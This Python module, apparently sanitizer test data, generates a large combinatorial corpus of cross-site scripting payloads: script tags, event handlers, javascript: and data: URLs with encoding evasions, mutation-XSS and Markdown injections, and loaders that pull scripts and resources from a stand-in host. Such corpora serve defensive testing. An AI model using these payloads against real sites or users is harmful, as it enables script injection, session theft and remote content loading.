"""Strings that try to run a script or to ask another server, made from families of tricks.

After the OWASP filter evasion cheat sheet, PortSwigger's list, the tests of DOMPurify and ammonia, and Markdown's own ways.
"""

# ruff: noqa: E501 (one trick a string)

from __future__ import annotations

from itertools import product

FOREIGN = "http://foreign.invalid"
RUN = "alert(1)"
_EVENTS = (
    "onload onerror onclick onmouseover onfocus onblur onanimationstart onanimationend ontransitionend ontoggle onscroll "
    "onpointerenter onpointerrawupdate onbeforeinput oncopy onwheel onbegin onend onrepeat onhashchange onpageshow "
    "onresize onmessage onstart onfinish oncanplay onloadstart onauxclick oncontentvisibilityautostatechange"
).split()
_CARRIERS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open", "select autofocus",
    "marquee", "iframe src=about:blank", "object data=x", "embed src=x", "p", "a href=# tabindex=0 autofocus", "math",
    "textarea autofocus", "x style=display:block contenteditable",
)  # fmt: skip
_HANDLERS = tuple(f"<{carrier} {event}={RUN}>" for carrier, event in product(_CARRIERS, _EVENTS))

_SCRIPTS = (
    f"<script>{RUN}</script>", f"<ScRiPt>{RUN}</sCrIpT>", f"<script/x>{RUN}</script>", f"<script\n>{RUN}</script\n>",
    f"<script src={FOREIGN}/x.js></script>", "<script src=//foreign.invalid></script>", f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script type=module>import '{FOREIGN}/m.js'</script>",
    f"<script>/*<![CDATA[*/{RUN}/*]]>*/</script>", f"<![CDATA[<script>{RUN}</script>]]>", f"<!--><script>{RUN}</script>-->",
    f"<!-- --!><script>{RUN}</script>", f"<?xml version='1.0'?><script>{RUN}</script>", f"<%<script>{RUN}</script>%>",
    f"\x00<script>{RUN}</script>", f"<scr\x00ipt>{RUN}</script>", f"<script\x0b>{RUN}</script>", f"＜script＞{RUN}＜/script＞",
    f"\ufeff<script>{RUN}</script>", f"\u202e<script>{RUN}</script>", f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;script&#62;{RUN}&#60;/script&#62;", f"\\<script>{RUN}\\</script>", f"<script>{RUN}", f"</p><script>{RUN}</script><p>",
)  # fmt: skip
_LOADERS = (
    "<img src={}/i>", "<img srcset='{}/i 2x'>", "<img/src={}/i/>", "<image href={}/i>", "<picture><source srcset={}/i><img></picture>",
    "<iframe src={}></iframe>", "<iframe srcdoc='<img src={}/i>'></iframe>", "<object data={}></object>", "<embed src={}>",
    "<link rel=stylesheet href={}/c>", "<link rel=prefetch href={}/p>", "<link rel=preload as=image href={}/p>",
    "<link rel=dns-prefetch href={}>", "<base href={}/>", "<meta http-equiv=refresh content='0;url={}'>",
    "<meta http-equiv=Content-Security-Policy content='report-uri {}'>", "<style>@import '{}/c';</style>",
    "<style>*{{background:url({}/b)}}</style>", "<p style='background:url({}/b)'>x</p>", "<p style='list-style-image:url({}/l)'>x</p>",
    "<div style=\"background-image:\\75rl('{}/b')\">x</div>", "<table background={}/b><tr><td background={}/d>x</table>",
    "<body background={}/b>", "<video poster={}/v src={}/w></video>", "<audio src={}/a autoplay></audio>",
    "<video><track src={}/t default kind=subtitles></video>", "<input type=image src={}/i>", "<svg><image href={}/i /></svg>",
    "<svg><image xlink:href={}/i /></svg>", "<svg><use href={}/s#x /></svg>", "<svg><feImage href={}/f /></svg>",
    "<svg><style>@import url({}/c)</style></svg>", "<math><mtext><img src={}/i></mtext></math>", "<form action={} id=f><input autofocus></form>",
    "<button formaction={}>x</button>", "<a href=x ping={}>x</a>", "<frameset><frame src={}></frameset>", "<applet code={}></applet>",
    "<bgsound src={}>", "<layer src={}></layer>", "<xml src={}></xml>", "<portal src={}></portal>", "<template><img src={}/i></template>",
    "<noscript><img src={}/i></noscript>", "<font style='src:url({}/f)'>x</font>", "<html manifest={}/m>", "<script src={}></script>",
    "<fencedframe src={}></fencedframe>", "<ins cite={}>x</ins><q cite={}>x</q><blockquote cite={}>x</blockquote>",
)  # fmt: skip
_LOADING = tuple(
    each.format(*[address] * 3)
    for each, address in product(_LOADERS, (FOREIGN, "//foreign.invalid", "\\\\foreign.invalid"))
)

_URLS = tuple(
    f"{scheme}{rest}"
    for scheme, rest in product(
        (
            "javascript:", "JaVaScRiPt:", " javascript:", "java\tscript:", "java\nscript:", "\x01javascript:", "javascript\t:",
            "javascript&colon;", "&#106;avascript:", "&#x6A;avascript:", "&#0000106avascript:", "javascript&#58;",
            "java&Tab;script:", "java&NewLine;script:", "&#1;javascript:", "\u00a0javascript:", "\u200bjavascript:",
            "\ufeffjavascript:", "javascript%3A", "%6Aavascript:", "\\u006Aavascript:", "vbscript:", "VBS:", "livescript:",
            "mocha:", "feed:javascript:", "view-source:javascript:", "jar:javascript:", "data:text/html,<script>",
            "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:image/svg+xml,<svg onload=alert(1)>", "blob:",
            "filesystem:http://x/", "file:///etc/passwd?", "intent://x#Intent;", "javascript://foreign.invalid/%0a",
        ),
        (RUN, f"//%0a{RUN}"),
    )
)  # fmt: skip
_WAYS = (
    "[x]({})", "[x](<{}>)", "<{}>", "[x][1]\n\n[1]: {}", "![x]({})", "<a href=\"{}\">x</a>", "[x]({} \"onclick=alert(1)\")",
    "[![x]({})]({})",
)  # fmt: skip
_LINKS = tuple(way.format(*[url] * 2) for way, url in product(_WAYS, _URLS))

_MARKDOWN = (
    f"![x]({FOREIGN}/i)", "![x](//foreign.invalid/i)", f"![x][1]\n\n[1]: {FOREIGN}/i", f"[![x]({FOREIGN}/i)]({FOREIGN})",
    f"[x](http://a\" onmouseover=\"{RUN})", f"[x](http://a' onmouseover='{RUN})", f"![\" onerror=\"{RUN}](x)",
    f"[x](http://a \"\\\" onmouseover=\\\"{RUN}\")", f"[x\\](javascript:{RUN})](http://a)", f"```\"onload={RUN}\nx\n```",
    f"```<img src=x onerror={RUN}>\nx\n```", f"`</code><img src=x onerror={RUN}>`", f"    </code></pre><img src=x onerror={RUN}>",
    f"|<img src=x onerror={RUN}>|x|\n|--|--|\n|[x](javascript:{RUN})|x|", f"# <img src=x onerror={RUN}>", f"> <svg onload={RUN}>",
    f"1. <details open ontoggle={RUN}>", f"[x]: javascript:{RUN}\n\n[x]", f"[x]: <javascript:{RUN}>\n[x]", f"<javascript:{RUN}>",
    f"<x@\"onclick={RUN}\"y.z>", "[x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)", f"[a](b \"c\" onclick={RUN})",
    f"**<img src=x onerror={RUN}>**", f"~~<svg/onload={RUN}>~~", f"<div markdown=1>[x](javascript:{RUN})</div>",
    f"[<img src=x onerror={RUN}>](http://a)", f"<!--\n[x](javascript:{RUN})\n-->", f"&lt;img src=x onerror={RUN}&gt;",
    f"[x](http://a?q=\"><img/src=x onerror={RUN}>)", f"[x](<http://a\"><svg onload={RUN}>>)", f"[x](\x00javascript:{RUN})",
)  # fmt: skip
_MUTATING = (
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={}&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror={}>\">", "<noscript><p title=\"</noscript><img src=x onerror={}>\">",
    "<svg><style><img src=x onerror={}></style></svg>", "<math><mi//xlink:href=\"data:x,<script>{}</script>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror={}>", "<listing>&lt;img src=1 onerror={}&gt;</listing>",
    "<svg><title><![CDATA[</title><img src=x onerror={}>]]></title></svg>", "<table><td><select><iframe onload={}></select></table>",
    "<svg><foreignObject><iframe onload={}></foreignObject></svg>", "<xmp><p title=\"</xmp><img src=x onerror={}>\">",
    "<textarea><p title=\"</textarea><img src=x onerror={}>\">", "<title><p title=\"</title><svg onload={}>\">",
    "<select><template><img src=x onerror={}></template></select>", "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{} /><a id=x><text>x</text></a></svg>", "<svg><a xlink:href=javascript:{}><rect width=9 height=9 /></a></svg>",
    "<svg><script href=data:,{} /></svg>", "<svg><script>&#97;lert(1)//{}</script></svg>", "<math href=javascript:{}>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:{}>x</maction></math>", "<plaintext><img src=x onerror={}>",
    "<iframe srcdoc=\"&lt;script&gt;{}&lt;/script&gt;\"></iframe>", "<isindex type=image src=1 onerror={}>", "<img src=`x`onerror={}>",
    "<img src='x'onerror={}>", "<img\x0csrc=x\x0conerror={}>", "<img src=x:x onerror\x00={}>", "<img src=x onerror\x0b={}>", "<img \"\"\"><script>{}</script>\">",
    "<svg/onload={}", "<body onload={}//", "<img src=x onerror={} ", "\"><img src=x onerror={}>", "'><svg onload={}>", "--><svg onload={}>",
    "]]><svg onload={}>", "</title><svg onload={}>", "</style><svg onload={}>", "</textarea><svg onload={}>", "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}", "<div style=\"width:expression({})\">", "<style>*{{behavior:url(#x);x:expression({})}}</style>", "<a/href=javascript:{}>x</a>",
    "<b id=x tabindex=1 onactivate={}>", "<object type=text/html data=\"javascript:{}\">", "<custom-x onfocus={} autofocus tabindex=0>",
)  # fmt: skip
_HIDING = ("{}", "\u202e{}\u2066", "\u200b{}\u200d", "> {}", "* {}", "*{}*", "x\n\n{}\n\ny")
_MUTATIONS = tuple(hiding.format(each.format(RUN)) for hiding, each in product(_HIDING, _MUTATING))

ATTACKS = tuple(dict.fromkeys((*_SCRIPTS, *_HANDLERS, *_LOADING, *_LINKS, *_MARKDOWN, *_MUTATIONS)))
"""Each once."""
